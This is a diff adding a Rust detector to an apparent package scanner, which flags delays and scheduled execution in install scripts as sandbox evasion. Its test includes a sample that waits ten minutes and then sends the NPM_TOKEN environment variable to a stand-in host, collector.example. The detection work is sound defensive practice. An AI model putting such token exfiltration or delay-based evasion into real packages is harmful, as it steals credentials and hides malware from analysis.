@@ -0,0 +1,243 @@
+//! Detection of delayed execution in install scripts (sandbox evasion)
+//!
+//! Dynamic analysis sandboxes only watch a package for a short while, so
+//! malware may sleep or schedule itself for later before doing anything
+//! visible. A long delay alone is a weak signal; one followed by network
+//! access or command execution is a known evasion tactic.
+
+use once_cell::sync::Lazy;
+use regex::Regex;
+
+use super::evasion::ACTIONS;
+use super::{rules, Finding, FindingType, RiskLevel, ScanReason};
+
+/// Delays shorter than this are ordinary retries, polling or debouncing
+pub const MIN_DELAY_SECS: u64 = 30;
+
+/// Sleeps with a literal duration in seconds, captured as `amount` with an
+/// optional shell `unit`
+static SLEEPS: Lazy<Vec<Regex>> = Lazy::new(|| {
+    [
+        r"\bsleep\s+(?P<amount>\d+(?:\.\d+)?)(?P<unit>[smhd])?\b",
+        r"\bsleep\s*\(\s*(?P<amount>\d+(?:\.\d+)?)\s*\)",
+        r"\bTimer\(\s*(?P<amount>\d+(?:\.\d+)?)\s*,",
+        r"(?i)\bStart-Sleep\s+(?:-s(?:econds)?\s+)?(?P<amount>\d+)\b",
+        r"(?i)\btimeout(?:\.exe)?\s+/t\s+(?P<amount>\d+)\b",
+        // Each echo request waits about a second
+        r"(?i)\bping\s+-n\s+(?P<amount>\d+)\s+(?:127\.0\.0\.1|localhost)\b",
+    ]
+    .into_iter()
+    .map(|pattern| Regex::new(pattern).unwrap())
+    .collect()
+});
+
+/// JavaScript timers, whose delay argument is in milliseconds
+static TIMERS: Lazy<Regex> = Lazy::new(|| Regex::new(r"\bsetTimeout\s*\(").unwrap());
+
+/// Commands that run something at a later time rather than after a wait
+static SCHEDULERS: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(
+        r"(?i)\bat\s+now\s*\+\s*\d+\s*\w+|\bschtasks(?:\.exe)?\s+/create\b[^\n]*?/sc\s+once\b|\bsystemd-run\s+[^\n]*?--on-(?:active|calendar)=\S+",
+    )
+    .unwrap()
+});
+
+/// A delay found in a script
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Delay {
+    /// Matched snippet
+    pub snippet: String,
+    /// Length of the wait, `None` for execution scheduled for a later time
+    pub seconds: Option<u64>,
+    offset: usize,
+}
+
+/// Significant delays found in a script
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct DelayedExecution {
+    /// Delays of at least [`MIN_DELAY_SECS`] and scheduled executions, in
+    /// script order
+    pub delays: Vec<Delay>,
+    /// Network or execution calls that come after the first delay
+    pub subsequent_actions: Vec<String>,
+}
+
+impl DelayedExecution {
+    /// Scan script content for significant delays
+    pub fn detect(content: &str) -> Option<Self> {
+        let mut delays: Vec<Delay> = SLEEPS
+            .iter()
+            .flat_map(|regex| {
+                regex.captures_iter(content).filter_map(move |captures| {
+                    let amount: f64 = captures["amount"].parse().ok()?;
+                    let unit = match captures.name("unit").map(|unit| unit.as_str()) {
+                        Some("m") => 60,
+                        Some("h") => 3600,
+                        Some("d") => 86400,
+                        _ => 1,
+                    };
+                    let whole = captures.get(0)?;
+                    Some(Delay {
+                        snippet: whole.as_str().trim().to_string(),
+                        seconds: Some((amount * unit as f64) as u64),
+                        offset: whole.start(),
+                    })
+                })
+            })
+            .chain(TIMERS.find_iter(content).filter_map(|timer| {
+                let arguments = call_arguments(&content[timer.end()..]);
+                let millis = milliseconds(arguments.get(1)?)?;
+                Some(Delay {
+                    snippet: format!("setTimeout(…, {})", arguments[1]),
+                    seconds: Some(millis / 1000),
+                    offset: timer.start(),
+                })
+            }))
+            .chain(SCHEDULERS.find_iter(content).map(|scheduled| Delay {
+                snippet: scheduled.as_str().trim().to_string(),
+                seconds: None,
+                offset: scheduled.start(),
+            }))
+            .filter(|delay| delay.seconds.is_none_or(|secs| secs >= MIN_DELAY_SECS))
+            .collect();
+        if delays.is_empty() {
+            return None;
+        }
+        delays.sort_by_key(|delay| delay.offset);
+
+        let first_delay = delays[0].offset;
+        let subsequent_actions = ACTIONS
+            .find_iter(content)
+            .filter(|action| action.start() > first_delay)
+            .map(|action| action.as_str().to_string())
+            .fold(Vec::new(), |mut unique, action| {
+                if !unique.contains(&action) {
+                    unique.push(action);
+                }
+                unique
+            });
+
+        Some(Self {
+            delays,
+            subsequent_actions,
+        })
+    }
+
+    /// Report as a `DelayedExecution` finding
+    ///
+    /// A delay followed by network access or execution is high; a delay on
+    /// its own is low.
+    pub fn to_finding(&self, source: &str) -> Finding {
+        let (severity, description) = if self.subsequent_actions.is_empty() {
+            (
+                RiskLevel::Low,
+                format!(
+                    "{} waits or schedules work for later, which can outlast a sandbox's observation window",
+                    source
+                ),
+            )
+        } else {
+            (
+                RiskLevel::High,
+                format!(
+                    "{} waits or schedules work for later and then performs network access or execution, so the payload may only run after analysis has stopped watching",
+                    source
+                ),
+            )
+        };
+        let mut finding = Finding::new(
+            FindingType::DelayedExecution,
+            severity,
+            format!("{} delays execution", source),
+            description,
+        )
+        .with_affected_component(source.to_string())
+        .with_scan_reason(ScanReason::MaliciousPatterns)
+        .with_rule_id(rules::DELAYED_EXECUTION);
+        for delay in &self.delays {
+            finding = finding.with_evidence(match delay.seconds {
+                Some(seconds) => format!("Delay: {} ({}s)", delay.snippet, seconds),
+                None => format!("Scheduled: {}", delay.snippet),
+            });
+        }
+        for action in &self.subsequent_actions {
+            finding = finding.with_evidence(format!("Action after delay: {}", action));
+        }
+        finding
+    }
+}
+
+/// Top-level arguments of a call whose opening parenthesis was just consumed
+fn call_arguments(rest: &str) -> Vec<&str> {
+    let mut arguments = Vec::new();
+    let mut depth = 0usize;
+    let mut quote = None;
+    let mut start = 0;
+    let mut previous = '\0';
+    for (index, c) in rest.char_indices() {
+        match quote {
+            Some(open) if c == open && previous != '\\' => quote = None,
+            Some(_) => {}
+            None => match c {
+                '\'' | '"' | '`' => quote = Some(c),
+                '(' | '[' | '{' => depth += 1,
+                ')' | ']' | '}' if depth > 0 => depth -= 1,
+                ')' => {
+                    arguments.push(rest[start..index].trim());
+                    return arguments;
+                }
+                ',' if depth == 0 => {
+                    arguments.push(rest[start..index].trim());
+                    start = index + 1;
+                }
+                _ => {}
+            },
+        }
+        previous = c;
+    }
+    arguments
+}
+
+/// Value of a literal millisecond expression such as `600000` or `10 * 60 * 1000`
+fn milliseconds(expression: &str) -> Option<u64> {
+    expression.split('*').try_fold(1u64, |product, factor| {
+        let factor: u64 = factor.trim().replace('_', "").parse().ok()?;
+        product.checked_mul(factor)
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_delays_and_subsequent_actions() {
+        let script = r#"
+const https = require('https');
+setTimeout(() => {
+  https.get('https://collector.example/x?d=' + process.env.NPM_TOKEN);
+}, 10 * 60 * 1000);
+"#;
+        let delayed = DelayedExecution::detect(script).unwrap();
+        assert_eq!(delayed.delays.len(), 1);
+        assert_eq!(delayed.delays[0].seconds, Some(600));
+        assert_eq!(delayed.subsequent_actions, ["https.get("]);
+        assert_eq!(delayed.to_finding("postinstall").severity, RiskLevel::High);
+
+        let shell = DelayedExecution::detect("sleep 5m; echo done").unwrap();
+        assert_eq!(shell.delays[0].seconds, Some(300));
+        assert_eq!(shell.to_finding("install").severity, RiskLevel::Low);
+        let scheduled = DelayedExecution::detect("echo 'node x.js' | at now + 2 hours").unwrap();
+        assert_eq!(scheduled.delays[0].seconds, None);
+
+        // Short waits and computed delays are not reported
+        for benign in [
+            "setTimeout(() => process.exit(0), 500)",
+            "setTimeout(retry, delay * 2)",
+            "sleep 2 && node build.js",
+            "time.sleep(0.5)",
+        ] {
+            assert!(DelayedExecution::detect(benign).is_none(), "{benign}");
+        }
+    }
+}